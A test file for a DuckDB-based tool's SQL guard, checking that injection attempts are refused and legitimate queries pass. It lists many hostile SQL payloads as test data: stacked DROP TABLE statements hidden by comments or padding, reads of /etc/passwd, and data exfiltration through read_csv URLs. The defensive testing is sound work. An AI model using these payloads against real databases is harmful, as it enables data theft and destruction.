import 'fake-indexeddb/auto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Engine } from '../../../src/engine/engine';
import { createNodeEngine } from '../../../src/engine/node';
import { tokenize } from '../../../src/engine/sql-tokens';
import { compileStep, StepError, validateStep } from '../../../src/frames/compile';
import { runFrame } from '../../../src/frames/run';
import { checkExpressionSql, checkQuerySql, isGuardRefusal, stepSqlProblems } from '../../../src/frames/sql-guard';
import type { Step } from '../../../src/frames/steps';
import type { JobDefinition } from '../../../src/jobs/model';
import { nodeJobEnv } from '../../../src/jobs/node-env';
import { serviceOf } from '../../support/service';
import { executeJob } from '../../../src/jobs/run';

const PAD = ' '.repeat(400);

/** Every attack of issue 14 on a Sql step, as text, and what the refusal must name. */
const QUERY_ATTACKS: [string, string, RegExp][] = [
  ['a second statement', 'SELECT * FROM input; DROP TABLE salaries', /second statement after ";" \(DROP TABLE salaries\)/],
  ['400 spaces of padding before ; DROP TABLE', `SELECT * FROM input${PAD}; DROP TABLE salaries`, /second statement after ";" \(DROP TABLE salaries\)/],
  ['a subquery on another engine table', 'SELECT * FROM input WHERE id IN (SELECT id FROM salaries)', /reads the table salaries, which is not an input of this step \(it may read only `input`\)/],
  ['another table in the FROM list', 'SELECT i.*, s.salary FROM input i, salaries s', /reads the table salaries/],
  ['another table in a JOIN', 'SELECT * FROM input JOIN salaries USING (id)', /reads the table salaries/],
  ['a qualified table', 'SELECT * FROM main.salaries', /reads the table main\.salaries/],
  ['a CTE that shadows the table it reads', 'WITH salaries AS (SELECT * FROM salaries) SELECT * FROM salaries', /reads the table salaries/],
  ['a CTE used outside its subquery', 'SELECT * FROM (WITH s AS (SELECT 1) SELECT * FROM s), salaries AS s', /reads the table salaries/],
  ['exfiltration through a URL', "SELECT * FROM read_csv('http://127.0.0.1:9/x.csv?d=' || (SELECT string_agg(name, ',') FROM input))", /calls read_csv\(\), which reads files or URLs/],
  ['exfiltration through a URL in the select list', "SELECT read_csv('http://host/x.csv?d=' || name) FROM input", /calls read_csv\(\)/],
  ['SET custom_extension_repository', "SET custom_extension_repository='http://127.0.0.1:9/'", /holds a SET statement/],
  ['PRAGMA', 'PRAGMA enable_profiling', /holds a PRAGMA statement/],
  ['ATTACH', "ATTACH '/tmp/x.db' AS x", /holds an ATTACH statement/],
  ['COPY', "COPY input TO '/tmp/out.csv'", /holds a COPY statement/],
  ['COPY after a query', "SELECT 1; COPY (SELECT * FROM input) TO '/tmp/out.csv'", /second statement after ";" \(COPY/],
  ['EXPORT DATABASE', "EXPORT DATABASE '/tmp/dump'", /holds an EXPORT statement/],
  ['INSTALL', 'INSTALL httpfs', /holds an INSTALL statement/],
  ['LOAD', 'LOAD json', /holds a LOAD statement/],
  ['CREATE MACRO', "CREATE MACRO lower(x) AS 'pwned'", /holds a CREATE statement/],
  ['SET VARIABLE', 'SET VARIABLE v = 1', /holds a SET statement/],
  ['a statement after a WITH list', 'WITH a AS (SELECT 1) INSERT INTO salaries SELECT * FROM a', /INSERT after its WITH list/],
  ['DESCRIBE in a subquery', 'SELECT * FROM (DESCRIBE salaries)', /holds a DESCRIBE statement/],
  ['SHOW TABLES in a subquery', 'SELECT * FROM (SHOW TABLES)', /holds a SHOW statement/],
  ['duckdb_tables()', 'SELECT * FROM duckdb_tables()', /calls duckdb_tables\(\), which reads the engine's own tables or settings/],
  ['duckdb_settings() qualified', 'SELECT * FROM system.main.duckdb_settings()', /calls duckdb_settings\(\)/],
  ['query_table', "SELECT * FROM query_table('salaries')", /calls query_table\(\)/],
  ['query', "SELECT * FROM query('SELECT * FROM salaries')", /calls query\(\)/],
  ['glob', "SELECT * FROM glob('/etc/*')", /calls glob\(\), which reads files or URLs/],
  ['read_text', "SELECT * FROM read_text('/etc/hostname')", /calls read_text\(\)/],
  ['read_blob', "SELECT content FROM read_blob('/etc/hostname')", /calls read_blob\(\)/],
  ['read_parquet', "SELECT * FROM read_parquet('/data/x.parquet')", /calls read_parquet\(\)/],
  ['read_json', "SELECT * FROM read_json('/data/x.json')", /calls read_json\(\)/],
  ['read_csv_auto', "SELECT * FROM read_csv_auto('/data/x.csv')", /calls read_csv_auto\(\)/],
  ['a quoted function name', `SELECT * FROM "read_text"('/etc/hostname')`, /calls read_text\(\)/],
  ['sqlite_scan', "SELECT * FROM sqlite_scan('/x.db', 't')", /calls sqlite_scan\(\)/],
  ['pragma_table_info', "SELECT * FROM pragma_table_info('salaries')", /calls pragma_table_info\(\)/],
  ['getvariable', "SELECT getvariable('secret') FROM input", /calls getvariable\(\)/],
  ['current_setting', "SELECT current_setting('allowed_directories')", /calls current_setting\(\)/],
  ['another table function', 'SELECT * FROM test_all_types()', /calls the table function test_all_types\(\).*range, generate_series, unnest/],
  ["FROM 'x.csv'", "SELECT * FROM 'x.csv'", /reads the file 'x\.csv' directly/],
  ["FROM 'http://…'", "FROM 'http://127.0.0.1:9/x.csv'", /reads the file 'http:\/\/127\.0\.0\.1:9\/x\.csv' directly/],
  ["JOIN 'x.csv'", "SELECT * FROM input JOIN '/etc/passwd' ON true", /reads the file '\/etc\/passwd' directly/],
  ['a statement hidden after a block comment', 'SELECT 1 /* harmless */; DROP TABLE salaries', /second statement after ";" \(DROP TABLE salaries\)/],
  ['a statement hidden after a line comment', 'SELECT 1 -- harmless\n; DROP TABLE salaries', /second statement after ";" \(DROP TABLE salaries\)/],
  ['a statement after a nested comment', 'SELECT 1 /* a /* b */ ; DROP TABLE x */ ; DROP TABLE salaries', /second statement after ";" \(DROP TABLE salaries\)/],
  ["a statement after an E'' string with an escaped quote", "SELECT E'it\\'s' ; DROP TABLE salaries --'", /second statement after ";" \(DROP TABLE salaries\)/],
  ['a statement after a dollar-quoted string', "SELECT $q$ it's $$ $q$; DROP TABLE salaries", /second statement after ";" \(DROP TABLE salaries\)/],
  ['breaking out of the wrapper', 'SELECT 1) ; DROP TABLE salaries; SELECT (1', /second statement/],
  ['a statement instead of a query', 'DROP TABLE salaries', /holds a DROP statement/],
  ['DESCRIBE', 'DESCRIBE input', /holds a DESCRIBE statement/],
  ['an unterminated string', "SELECT 'abc FROM input", /cannot be read: a string starting at character 8 is never closed/],
  ['an unterminated comment', 'SELECT 1 /* ; DROP TABLE salaries', /cannot be read: a \/\* comment starting at character 10 is never closed/],
];

/** SQL a user legitimately writes in a Sql step: none of it may be refused. */
const LEGITIMATE: string[] = [
  'SELECT * FROM input',
  'SELECT id * 2 AS twice FROM input WHERE id < 3;',
  'WITH small AS (SELECT id FROM input WHERE id < 3) SELECT count(*) AS n FROM small',
  'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT r.n, input.id FROM r, input',
  'WITH a AS (SELECT id, name FROM input), b AS (SELECT id FROM a WHERE id > 1) SELECT a.name FROM a JOIN b ON a.id = b.id',
  'WITH m AS MATERIALIZED (SELECT * FROM input) SELECT * FROM m',
  'SELECT id, row_number() OVER (PARTITION BY name ORDER BY id) AS rn FROM input QUALIFY rn = 1',
  'SELECT name, count(*) AS n, sum(id) FILTER (WHERE id > 1) AS s FROM input GROUP BY ALL ORDER BY ALL',
  'SELECT id::VARCHAR AS s, CAST(id AS DOUBLE) AS d, TRY_CAST(name AS INTEGER) AS n FROM input',
  'SELECT "load", "select", "from" FROM (SELECT 1 AS "load", 2 AS "select", 3 AS "from")',
  'SELECT load, set, update FROM (SELECT 1 AS load, 2 AS set, 3 AS update)',
  "SELECT 'DROP TABLE x; read_csv(' AS note, id FROM input",
  "SELECT $$it's; DROP TABLE x$$ AS note FROM input",
  'SELECT list_transform(tags, x -> x + 1) AS t, list_filter(tags, x -> x > 10) AS f FROM input',
  'FROM input SELECT id, name',
  'FROM input',
  'VALUES (1, 2), (3, 4)',
  '(SELECT id FROM input) UNION ALL (SELECT id FROM input)',
  'SELECT * FROM input UNION ALL BY NAME SELECT * FROM input',
  "SELECT trim(BOTH 'x' FROM name) AS t, extract(year FROM DATE '2020-01-01') AS y, substring(name FROM 1 FOR 2) AS s FROM input",
  'SELECT input.id, u.x FROM input, unnest([1, 2]) AS u(x)',
  'SELECT i FROM range(3) t(i)',
  'SELECT * FROM generate_series(1, 3)',
  'SELECT * FROM input t WHERE EXISTS (SELECT 1 FROM input u WHERE u.id = t.id)',
  'SELECT * EXCLUDE (tags) FROM input ORDER BY 1 LIMIT 2 OFFSET 1',
  'SELECT * REPLACE (upper(name) AS name) FROM input',
  'SELECT * FROM input -- a trailing comment',
  'SELECT id /* why: the key */ FROM input',
  'SELECT x FROM input, LATERAL (SELECT id + 1 AS x)',
  "SELECT id, CASE WHEN name IS NULL THEN 'none' ELSE name END AS n FROM input WHERE (name IS NULL) OR (id BETWEEN 1 AND 2)",
  'SELECT {\'a\': id}.a AS a, [1, 2, 3][2:3] AS sl FROM input',
];

describe('the SQL guard refuses every attack of issue 14 as text', () => {
  for (const [what, sql, message] of QUERY_ATTACKS) {
    it(`refuses ${what} in a Sql step (issue 14)`, () => {
      const problems = checkQuerySql(sql, ['input']);
      expect(problems.join(' | ')).toMatch(message);
      // Text DuckDB could not parse either is a syntax problem; everything else is a refusal the CLI explains.
      if (!/cannot be read/.test(problems[0]!)) expect(problems.some(isGuardRefusal), problems.join(' | ')).toBe(true);
    });
  }

  it('names every input a step may read', () => {
    expect(checkQuerySql('SELECT * FROM a JOIN c ON true', ['a', 'b'])).toEqual(['The SQL reads the table c, which is not an input of this step (it may read only `a`, `b`).']);
  });

  it('shows the hidden statement even after 400 spaces, so the review and the node see it', () => {
    const [problem] = checkQuerySql(`SELECT * FROM input${PAD}; DROP TABLE salaries`, ['input']);
    expect(problem).toBe('The SQL holds a second statement after ";" (DROP TABLE salaries): a Sql step runs exactly one query.');
  });
});

describe('the SQL guard lets legitimate SQL through', () => {
  for (const sql of LEGITIMATE) {
    it(`accepts ${sql.replace(/\s+/g, ' ').slice(0, 70)}`, () => expect(checkQuerySql(sql, ['input'])).toEqual([]));
  }
});

describe('expressions (Derived, Filter and SplitRows SQL) are one expression', () => {
  const refused: [string, RegExp][] = [
    ['1; DROP TABLE salaries', /holds a ";"/],
    ['id IN (SELECT id FROM salaries)', /holds a subquery \(SELECT id FROM salaries\)/],
    ['(SELECT max(salary) FROM salaries)', /holds a subquery/],
    ['EXISTS (FROM salaries)', /holds a subquery \(FROM salaries\)/],
    ["read_text('/etc/hostname')", /calls read_text\(\), which reads files or URLs: an expression may use only the columns of its input/],
    ["length(read_csv('http://127.0.0.1:9/?d=' || name))", /calls read_csv\(\)/],
    ["getvariable('v')", /calls getvariable\(\)/],
    ['1) FROM salaries --', /closes a parenthesis it never opened/],
    ['DROP TABLE salaries', /holds a DROP statement/],
    ['(DESCRIBE salaries)', /holds a DESCRIBE statement/],
  ];
  for (const [sql, message] of refused) it(`refuses ${sql}`, () => expect(checkExpressionSql(sql).join(' | ')).toMatch(message));
  const fine = ["amount > 5 AND region = 'eu'", "lower(name) || ';'", "trim(BOTH 'x' FROM name)", 'extract(year FROM d) = 2020', 'comment IS NULL', '(start BETWEEN 1 AND 2)', 'list_transform(l, x -> x + 1)', 'CASE WHEN a THEN 1 ELSE 2 END', 'x IN (1, 2, 3)', "regexp_matches(s, 'a;b')"];
  for (const sql of fine) it(`accepts ${sql}`, () => expect(checkExpressionSql(sql)).toEqual([]));

  it('prefixes each problem of a step with its field', () => {
    expect(stepSqlProblems({ id: 'f', kind: 'Filter', params: { predicate: { sql: '1; DROP TABLE t' } } })).toEqual(['predicate.sql: The expression holds a ";" (1; DROP TABLE t): an expression is one value, never a statement.']);
    expect(stepSqlProblems({ id: 'd', kind: 'Derived', params: { name: 'x', sql: 'id + 1' } })).toEqual([]);
  });
});

describe('the tokenizer tells code from data as DuckDB does', () => {
  it('reads strings, escapes, quoted names, dollar quotes and nested comments', () => {
    const { tokens, problem } = tokenize(`SELECT 'a''b', E'c\\'d', "e""f", $$g'h$$, $t$i$$j$t$, $1 /* k /* l */ m */ -- n\n, 1_000.5e2`);
    expect(problem).toBeNull();
    expect(tokens.map((t) => [t.kind, t.value])).toEqual([
      ['word', 'select'], ['string', "a'b"], ['punct', ','], ['string', "c'd"], ['punct', ','], ['ident', 'e"f'], ['punct', ','],
      ['string', "g'h"], ['punct', ','], ['string', 'i$$j'], ['punct', ','], ['param', '$1'], ['punct', ','], ['number', '1_000.5e2'],
    ]);
  });
});

let engine: Engine;
beforeAll(async () => {
  engine = await createNodeEngine();
  engine.query("CREATE TABLE salaries AS SELECT * FROM (VALUES (1, 'ann', 90000), (2, 'bob', 85000)) t(id, name, salary)");
  engine.query("CREATE TABLE input AS SELECT * FROM (VALUES (1, 'x'), (2, 'y')) t(id, name)");
});

const settings = () => engine.query("SELECT name, value FROM duckdb_settings() WHERE name NOT IN ('memory_limit') ORDER BY name", 10_000).rows;

describe('the engine refuses the same attacks when the text check is bypassed (issue 14: enforced in the engine too)', () => {
  /** SQL sent straight to Engine.createChecked, as if the guard had a hole: each must be refused. */
  const ENGINE_ATTACKS: [string, string, RegExp][] = [
    ['a second statement', 'SELECT * FROM input; DROP TABLE salaries', /multiple statements|syntax error/i],
    ['breaking out of the wrapper', 'SELECT 1); DROP TABLE salaries; SELECT (1', /multiple statements|syntax error/i],
    ['a statement instead of a query', 'DROP TABLE salaries', /syntax error/i],
    ['SET custom_extension_repository', "SET custom_extension_repository='http://127.0.0.1:9/'", /syntax error/i],
    ['SET VARIABLE', 'SET VARIABLE v = 1', /syntax error/i],
    ['PRAGMA', 'PRAGMA enable_profiling', /syntax error/i],
    ['CREATE MACRO', "CREATE MACRO lower(x) AS 'pwned'", /syntax error/i],
    ['ATTACH', "ATTACH ':memory:' AS other", /syntax error/i],
    ['COPY', "COPY salaries TO '/tmp/epoxy-guard-copy.csv'", /syntax error/i],
    ['EXPORT DATABASE', "EXPORT DATABASE '/tmp/epoxy-guard-export'", /syntax error/i],
    ['INSTALL', 'INSTALL httpfs', /syntax error/i],
    ['LOAD', 'LOAD json', /syntax error/i],
    ['USE', 'USE memory', /syntax error/i],
    ['a subquery on another table', 'SELECT * FROM input WHERE id IN (SELECT id FROM salaries)', /reads the table salaries, which is not one of its inputs \(input\)/],
    ['another table', 'SELECT * FROM salaries', /reads the table salaries/],
    ['a CTE shadowing the table it reads', 'WITH salaries AS (SELECT * FROM salaries) SELECT * FROM salaries', /reads the table salaries/],
    ['query_table', "SELECT * FROM query_table('salaries')", /query_table\(\)|reads the table salaries/],
    ['query', "SELECT * FROM query('SELECT * FROM salaries')", /query\(\)|reads the table salaries/],
    ['duckdb_tables()', 'SELECT * FROM duckdb_tables()', /duckdb_tables\(\)/],
    ['information_schema', 'SELECT * FROM information_schema.tables', /duckdb_tables\(\)|table function/],
    ['glob', "SELECT * FROM glob('/epoxy/*')", /glob\(\)/],
    ['read_text', "SELECT * FROM read_text('/etc/hostname')", /read_text\(\)/],
    ['read_csv over http', "SELECT * FROM read_csv('http://127.0.0.1:9/x.csv?d=1')", /read_csv\(\)|disabled by configuration/],
    // With external access off DuckDB no longer turns a path in FROM into read_csv.
    ["FROM 'file'", "SELECT * FROM '/etc/hostname'", /Table with name \/etc\/hostname does not exist/],
    ['DESCRIBE in a subquery', 'SELECT * FROM (DESCRIBE salaries)', /holds a DESCRIBE statement/],
    ['SHOW TABLES in a subquery', 'SELECT * FROM (SHOW TABLES)', /holds a SHOW statement/],
    ['getvariable', "SELECT getvariable('v') AS v FROM input", /getvariable\(\)/],
    ['current_setting', "SELECT current_setting('allowed_directories') AS s", /current_setting\(\)/],
  ];

  it('refuses each one, the canary table survives and no setting or function changed', () => {
    const before = settings();
    let n = 0;
    for (const [what, sql, message] of ENGINE_ATTACKS) {
      expect(() => engine.createChecked(`attack_${++n}`, sql, ['input']), what).toThrow(message);
    }
    expect(engine.query('SELECT count(*) FROM salaries').rows).toEqual([[2]]);
    expect(engine.query("SELECT lower('A') AS a").rows).toEqual([['a']]);
    expect(settings()).toEqual(before);
    expect(engine.query("SELECT count(*) FROM duckdb_tables() WHERE table_name LIKE 'attack_%'").rows).toEqual([[0]]);
  });

  it('runs a legitimate query over its inputs, including a view over what it reads', () => {
    engine.query('CREATE OR REPLACE VIEW input_view AS SELECT * FROM input WHERE id > 1');
    engine.createChecked('ok_1', 'SELECT id * 2 AS twice FROM input_view UNION ALL SELECT i FROM range(1) t(i) ORDER BY 1 DESC', ['input_view']);
    expect(engine.query('SELECT * FROM ok_1').rows).toEqual([[4], [0]]);
  });

  it('a lazy CSV view may be read (its own read_csv is allowed), another file may not', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'epoxy-guard-'));
    writeFileSync(join(dir, 'people.csv'), 'id,name\n1,ana\n2,bo\n');
    writeFileSync(join(dir, 'secret.csv'), 'token\nhunter2\n');
    const people = await engine.open('people.csv', { kind: 'path', path: join(dir, 'people.csv') });
    const secret = await engine.registerSource('secret.csv', { kind: 'path', path: join(dir, 'secret.csv') });
    engine.createChecked('ok_2', `SELECT name FROM "${people.table}" ORDER BY id`, [people.table]);
    expect(engine.query('SELECT * FROM ok_2').rows).toEqual([['ana'], ['bo']]);
    expect(() => engine.createChecked('bad_2', `SELECT * FROM read_csv('${secret}')`, ['input'])).toThrow(/read_csv\(\)/);
  });
});

describe('compile, runFrame and executeJob stop a refused step at its node', () => {
  const attack: Step = { id: 'evil', kind: 'Sql', params: { sql: 'SELECT * FROM input; DROP TABLE salaries' } };

  it('compileStep throws a StepError at the step; validateStep shows it', () => {
    expect(() => compileStep(attack, { relation: 'input', schema: [] })).toThrow(StepError);
    expect(validateStep(attack, { relation: 'input', schema: [] })).toEqual([{ stepId: 'evil', severity: 'error', message: 'The SQL holds a second statement after ";" (DROP TABLE salaries): a Sql step runs exactly one query.' }]);
    const derived: Step = { id: 'd', kind: 'Derived', params: { name: 'x', sql: "read_text('/etc/hostname')" } };
    expect(validateStep(derived, { relation: 'input', schema: [] })[0]!.message).toMatch(/calls read_text\(\)/);
  });

  it('a Transform preview fails at the step and the table is still there (issue 14: a link dropped the user\'s table)', () => {
    const r = runFrame(engine, { input: 'input', steps: [attack], sampleRows: 100, namespace: 'guard_preview' });
    expect(r.failure).toMatchObject({ stepId: 'evil', kind: 'invalid', message: expect.stringContaining('second statement') });
    expect(engine.query('SELECT count(*) FROM salaries').rows).toEqual([[2]]);
  });

  it('a job run fails at the Sql node with the guard\'s message and reads nothing else', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'epoxy-guard-job-'));
    writeFileSync(join(dir, 'orders.csv'), 'id,amount\n1,5\n2,7\n');
    const job = (sql: string): JobDefinition => ({
      version: 1, name: 'guarded', parameters: [], bookmark: 'job-bookmark-disable',
      nodes: [
        { id: 'orders', kind: 'source', source: { type: 'file', path: join(dir, 'orders.csv'), format: 'csv' } },
        { id: 'q', kind: 'transform', inputs: ['orders'], step: { id: 'q', kind: 'Sql', params: { sql } } },
        { id: 'out', kind: 'target', inputs: ['q'], target: { type: 'download', format: 'csv' } },
      ],
    });
    const env = nodeJobEnv(serviceOf(engine), join(dir, 'out'));
    const bad = await executeJob(job('SELECT o.*, s.salary FROM input o JOIN salaries s USING (id)'), env);
    expect(bad.state).toBe('FAILED');
    expect(bad.failedNode).toBe('q');
    expect(bad.error).toBe('q: The SQL reads the table salaries, which is not an input of this step (it may read only `input`).');
    expect(bad.nodes.find((n) => n.nodeId === 'q')!.state).toBe('FAILED');
    expect(bad.outputs).toEqual([]);
    const host = await executeJob(job("SELECT content FROM read_text('/etc/hostname')"), env);
    expect(host.error).toMatch(/^q: The SQL calls read_text\(\), which reads files or URLs/);
    const good = await executeJob(job('SELECT id, amount * 2 AS twice FROM input ORDER BY id'), env);
    expect(good.state).toBe('SUCCEEDED');
    expect(new TextDecoder().decode(good.outputs[0]!.download![0]!.bytes)).toBe('id,twice\n1,10\n2,14\n');
  });
});
